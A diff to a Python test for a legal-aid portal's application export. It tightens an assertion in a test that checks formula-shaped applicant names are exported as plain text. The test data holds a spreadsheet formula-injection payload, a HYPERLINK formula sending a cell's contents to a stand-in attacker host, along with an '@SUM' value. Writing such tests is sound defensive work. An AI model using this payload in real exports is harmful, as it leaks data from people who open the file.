@@ -601,7 +601,7 @@ def test_a_portal_applicant_named_like_a_formula_is_exported_as_text(
 ):
     name = '=HYPERLINK("http://evil.example/?"&A1,"王小二")'
     response = submit(client, cast, centre, name=name, adverse_party="@SUM(1+1)")
-    assert response.status_code in (200, 302)
+    assert response.status_code == 200  # the receipt page with the query code
     assert Application.objects.filter(applicant__name=name).exists()
 
     export = login(reviewer).get(reverse("legalaid:application_export"))
